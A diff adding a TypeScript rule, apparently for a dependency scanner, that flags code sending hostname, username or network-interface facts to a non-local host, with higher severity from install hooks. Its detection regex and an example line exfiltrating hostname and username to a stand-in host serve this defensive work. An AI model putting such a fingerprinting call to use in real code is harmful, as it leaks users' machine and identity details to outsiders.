@@ -1,0 +1,37 @@
+import { isLocalHost } from "../hosts.ts";
+import type { Rule, Sighting } from "../rule.ts";
+import type { LensView } from "../view.ts";
+import { flowsOf, placeOf } from "../view.ts";
+import type { Use } from "../../program/uses.ts";
+
+/** Facts that say which machine and which person this is, not only what kind of machine. */
+const TELLING =
+  /os\.(?:hostname|userInfo|networkInterfaces)|USERNAME|LOGNAME|env\.USER\b|COMPUTERNAME/;
+
+export const sendsHostFacts: Rule = {
+  id: "sends-host-facts",
+  title: "Tells somebody which machine this is",
+  why:
+    "Host name, user name and addresses of the network are what the first message of an intruder " +
+    "holds, and what dependency-confusion probes report. Telemetry does without them.",
+  example:
+    'https.get("https://collect.invalid/?h=" + os.hostname() + "&u=" + os.userInfo().username);',
+  advice:
+    "Find out who runs that address before you install it; an install hook has no use for it.",
+  severity: "high",
+  confidence: "medium",
+  look: (view) => view.sends.flatMap((use) => sightingOf(use, view)),
+};
+
+function sightingOf(use: Use, view: LensView): readonly Sighting[] {
+  const facts = flowsOf(use, "host-facts", "environment").filter((flow) => TELLING.test(flow.what));
+  const distinct = new Set(facts.map((flow) => TELLING.exec(flow.what)?.[0]));
+  const hosts = view.hostsOf(use).filter((host) => !isLocalHost(host));
+  const [host] = hosts;
+  if (host === undefined || host.startsWith("…") || distinct.size === 0) return [];
+  const atInstall = view.isReachedFrom(use.module, "install-hook");
+  if (!atInstall && distinct.size < 2) return [];
+  const message = `${[...distinct].join(", ")} of this machine: sent to ${host}.`;
+  const severity = atInstall ? "high" : "medium";
+  return [{ place: placeOf(use), message, severity }];
+}
